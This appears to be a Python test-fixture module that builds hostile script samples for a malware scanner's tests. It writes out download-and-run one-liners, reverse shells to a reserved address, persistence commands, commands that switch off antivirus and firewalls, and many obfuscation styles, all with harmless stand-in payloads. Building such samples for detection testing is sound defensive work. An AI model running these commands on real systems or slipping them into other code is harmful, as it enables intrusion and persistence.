"""Scripts for the interpreters that computers come with, open and veiled. Addresses and machines are reserved ones; nothing works."""

from base64 import b64encode

from tests.samples.hostile.cases import Case, Severity, single

HIGH, MEDIUM, LOW = Severity.HIGH, Severity.MEDIUM, Severity.LOW
HOST = "files.example.net"
HIDDEN = b64encode(("Write-Output '" + "nothing " * 12 + "'").encode("utf-16-le")).decode()
BLOB = b64encode(b"print('nothing')\n" * 30).decode()


def cases() -> list[Case]:
    """Scripts by language, those that fetch or stay, and those that hide."""
    return [*_by_kind(), *_fetching(), *_staying(), *_unguarding(), *_powershell(), *_windows(), *_batch(), *_python_and_shell(), *_other()]


def _by_kind() -> list[Case]:
    kinds = [
        ("Form.hta", b"<html><head><title>Form</title></head><body>Hello</body></html>"),
        ("Form2.hta", b"<!DOCTYPE html><html><script>window.resizeTo(1,1)</script></html>"),
        ("hello.vbs", b'\' greeting\r\nMsgBox "Hello"\r\n'),
        ("hello.jse", b"#@~^DAAAAA==\\ko$WXP8AwQAAA==^#~@"),
        ("job.wsf", b'<?xml version="1.0" ?>\r\n<package><job id="a"><script language="VBScript">x = 1</script></job></package>'),
        ("link.wsh", b"[ScriptFile]\r\nPath=E:\\data.vbs\r\n[Options]\r\nTimeout=0\r\n"),
        (
            "part.sct",
            b'<?XML version="1.0"?><scriptlet><registration progid="a"><script language="JScript">1</script></registration></scriptlet>',
        ),
        ("part.wsc", b"<component id='x'><script language='VBScript'>x=1</script></component>"),
    ]
    return [single("script: kind that nobody gives away", name, body, "script.present") for name, body in kinds]


def _fetching() -> list[Case]:
    texts = [
        ("get.bat", f"@echo off\r\ncertutil.exe -urlcache -split -f http://{HOST}/a a.exe\r\na.exe\r\n"),
        ("get.cmd", f"bitsadmin /transfer j http://{HOST}/a %TEMP%\\a.exe & start %TEMP%\\a.exe\r\n"),
        ("get.ps1", f"IEX (New-Object Net.WebClient).DownloadString('http://{HOST}/a')\r\n"),
        ("get2.ps1", f'$p = "$env:TEMP\\a.exe"\r\niwr http://{HOST}/a -OutFile $p\r\nStart-Process $p\r\n'),
        ("get.sh", f"#!/bin/sh\ncd /tmp\ncurl -fsSL http://{HOST}/a | sudo bash\n"),
        ("get2.sh", f"#!/bin/bash\nbash <(wget -qO- http://{HOST}/a)\n"),
        ("get3.sh", f'#!/bin/bash\neval "$(curl -s http://{HOST}/a)"\n'),
        ("get.py", f"import urllib.request\nexec(urllib.request.urlopen('http://{HOST}/a').read())\n"),
        ("hta.bat", f'start "" mshta http://{HOST}/a.hta\r\n'),
        ("sct.bat", f"regsvr32 /s /n /u /i:http://{HOST}/a.sct scrobj.dll\r\n"),
        ("msi.bat", f"msiexec /i http://{HOST}/a.msi /qn\r\n"),
        ("run.js", "var w = new ActiveXObject('WScript.Shell');\r\nw.Run('cmd /c ver');\r\n"),
        (
            "web.js",
            f"var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET','http://{HOST}/a',false); x.send();\r\nnew ActiveXObject('WScript.Shell').Run('a.exe');",
        ),
        ("install.command", f"#!/bin/zsh\ncurl -L http://{HOST}/a.sh | zsh\n"),
    ]
    return [single("script: fetches and runs", name, text.encode(), "script.present", "script.obfuscated") for name, text in texts]


def _staying() -> list[Case]:
    run = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
    texts = [
        ("a.bat", f'reg add "{run}" /v upd /t REG_SZ /d "%~dp0x.exe" /f\r\n'),
        ("b.cmd", "schtasks.exe /create /sc minute /tn upd /tr E:\\x.exe\r\n"),
        ("c.ps1", "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name u -Value x.exe\r\n"),
        ("d.ps1", "Register-ScheduledTask -TaskName u -Action $a -Trigger $t\r\n"),
        ("e.bat", 'copy /y x.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"\r\n'),
        ("f.sh", "#!/bin/sh\n(crontab -l; echo '* * * * * /tmp/x') | crontab -\n"),
        ("g.sh", "#!/bin/sh\ncp x.desktop ~/.config/autostart/x.desktop\n"),
        ("h.command", "#!/bin/sh\ncp com.x.plist ~/Library/LaunchAgents/com.x.plist\n"),
    ]
    return [single("script: makes itself start again", name, text.encode(), "script.present") for name, text in texts]


def _unguarding() -> list[Case]:
    texts = [
        ("a.ps1", "Set-MpPreference -DisableRealtimeMonitoring $true\r\n"),
        ("b.ps1", "Add-MpPreference -ExclusionPath C:\\\r\n"),
        ("c.bat", "vssadmin delete shadows /all /quiet\r\n"),
        ("d.cmd", "netsh advfirewall set allprofiles state off\r\n"),
        ("e.ps1", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')\r\n"),
        ("f.sh", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"),
        ("g.sh", "#!/bin/sh\nnc 203.0.113.9 4444 -e /bin/sh\n"),
        ("h.py", "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.9',1))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n"),
        ("i.ps1", "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.9',1)\r\n$s=$c.GetStream()\r\niex $d\r\n"),
    ]
    return [single("script: opens the computer", name, text.encode(), "script.present") for name, text in texts]


def _powershell() -> list[Case]:
    spelt = "+".join(f"[char]{ord(letter)}" for letter in "Write-Output 'nothing at all here'")
    parts = "\r\n".join(f"$a{n} = (\"{{2}}{{0}}{{1}}{{3}}\" -f 'a','b','c','d')" for n in range(5))
    ticks = "w`R`i`T`e-`O`u`T`p`U`t x ; g`E`t-`D`a`T`e ; s`E`t-`I`t`E`m y ; n`E`w-`I`t`E`m z"
    texts = [
        f"powershell.exe -NoP -NonI -W Hidden -Enc {HIDDEN}",
        f"$x=[Convert]::FromBase64String('{BLOB}'); iex ([Text.Encoding]::UTF8.GetString($x))",
        f"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{BLOB}')) | IEX",
        f"&([scriptblock]::Create((New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('{BLOB}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd())).Invoke()",
        f"[Reflection.Assembly]::Load([Convert]::FromBase64String('{BLOB}'))",
        f"iex ({spelt})",
        parts,
        ticks,
        "iex (-join ('gnihton si sihtgnihton si sihtgnihton si siht'[-1..-40]))\r\n$x = -join \"gnihton si siht gnihton si siht gnihton si siht\"[-1..-45]",
        f"$d = [Convert]::FromBase64String('{BLOB}')\r\nfor ($i=0; $i -lt $d.Length; $i++) {{ $d[$i] = $d[$i] -bxor 42 }}\r\niex ([Text.Encoding]::ASCII.GetString($d))",
        f"$a='FromBase';$b='64String';$m=[Convert].GetMethod($a+$b);iex ([Text.Encoding]::UTF8.GetString($m.Invoke($null,@('{BLOB}'))))",
    ]
    return [single("veiled: PowerShell", f"tool{n}.ps1", text.encode(), "script.obfuscated") for n, text in enumerate(texts)]


def _windows() -> list[Case]:
    characters = " & ".join(f"Chr({ord(letter)})" for letter in 'MsgBox "nothing at all to see here"')
    codes = ",".join(str(ord(letter)) for letter in "WScript.Echo('nothing')")
    escapes = "".join(f"\\x{ord(letter):02x}" for letter in "WScript.Echo nothing here at all, nothing again")
    names = ";".join(f"var _0x{n:04x}=_0x{n + 1:04x}" for n in range(0x1000, 0x1018))
    short = "+".join(f"'{letter}'" for letter in "WScript.ShellandmorelettersandmoreWScript.Shellandmoreletters")
    files = [
        ("a.vbs", f"x = {characters}\r\nExecute x\r\n"),
        ("b.vbs", 'ExecuteGlobal StrReverse("gnihton xoBgsM")\r\n'),
        ("c.vbs", 'a = StrReverse("gnihton") & StrReverse("tpircSW.llehS") & StrReverse("nur.tcejbo")\r\n'),
        ("d.vbe", "#@~^HgAAAA==\\ko$WaPr_+^VKJ@#@&AAAAAA==^#~@"),
        ("e.js", f"var f = String.fromCharCode({codes}); new ActiveXObject('WScript.Shell'); eval(f);"),
        ("f.js", f"var s = '{escapes}'; var w = WScript.CreateObject('WScript.Shell'); eval(s);"),
        ("g.js", f"{names}; var o = new ActiveXObject('Scripting.FileSystemObject');"),
        ("h.jse", f"var n = {short}; new ActiveXObject(n);"),
        ("i.wsf", f'<job><script language=\'VBScript\'>Execute(Replace("M1sgB1ox","1","")) : x = {characters}</script></job>'),
        (
            "j.hta",
            f"<html><script language='JScript'>var w=new ActiveXObject('WScript.Shell');eval(String.fromCharCode({codes}))</script></html>",
        ),
    ]
    return [single("veiled: Windows scripts", name, text.encode(), "script.obfuscated") for name, text in files]


def _batch() -> list[Case]:
    pieces = "".join(f"%x:~{n},1%" for n in range(40))
    carets = " ".join("^".join(word) for word in ("powershell", "command", "nothing", "netstat", "whoami", "ipconfig", "tasklist"))
    marked = b"@echo off\r\ncall :a\r\nexit\r\n:a\r\n"
    files = [
        ("a.bat", f"set x=abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGH\r\n{pieces}\r\n".encode()),
        ("b.cmd", f"{carets}\r\n{carets}\r\n".encode()),
        (
            "c.bat",
            b"@echo off\r\ncertutil -decode %~f0 %TEMP%\\x.exe\r\n-----BEGIN CERTIFICATE-----\r\nAAAA\r\n-----END CERTIFICATE-----\r\n",
        ),
        ("d.bat", f"powershell -WindowStyle Hidden -EncodedCommand {HIDDEN}\r\n".encode()),
        ("e.bat", b"\xff\xfe&cls\r\n" + marked + f"\r\n{pieces}\r\n".encode()),
    ]
    return [single("veiled: batch", name, body, "script.obfuscated") for name, body in files]


def _python_and_shell() -> list[Case]:
    files = [
        ("a.py", f"import base64\nexec(base64.b64decode('{BLOB}'))\n"),
        ("b.py", f"exec(__import__('zlib').decompress(__import__('base64').b64decode('{BLOB}')))\n"),
        ("c.py", f"_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{BLOB}'))\n"),
        ("d.pyw", f"import marshal, base64\nexec(marshal.loads(base64.b64decode('{BLOB}')))\n"),
        ("e.sh", f"#!/bin/bash\necho {BLOB} | base64 -d | bash\n"),
        ("f.sh", f'#!/bin/sh\neval "$(echo {BLOB} | base64 --decode)"\n'),
        ("g.sh", "#!/bin/bash\n" + "$'" + "".join(f"\\x{ord(letter):02x}" for letter in "echo nothing at all") + "'\n"),
        ("h.command", f"#!/bin/bash\nbase64 -d <<< {BLOB} | sh\n"),
        ("i", f"#!/usr/bin/env python3\nimport base64\nexec(compile(base64.b64decode('{BLOB}'), 'x', 'exec'))\n"),
    ]
    return [single("veiled: Python and shell", name, text.encode(), "script.obfuscated") for name, text in files]


def _other() -> list[Case]:
    files = [
        ("a.php", f"<?php eval(gzinflate(base64_decode('{BLOB}'))); ?>"),
        ("b.php", f'<?php @eval(base64_decode("{BLOB}"));'),
        ("c.pl", f"#!/usr/bin/perl\nuse MIME::Base64;\neval decode_base64('{BLOB}');\n"),
        ("d.rb", f"require 'base64'\neval(Base64.decode64('{BLOB}'))\n"),
    ]
    return [single("veiled: PHP, Perl, Ruby", name, text.encode(), "script.obfuscated") for name, text in files]
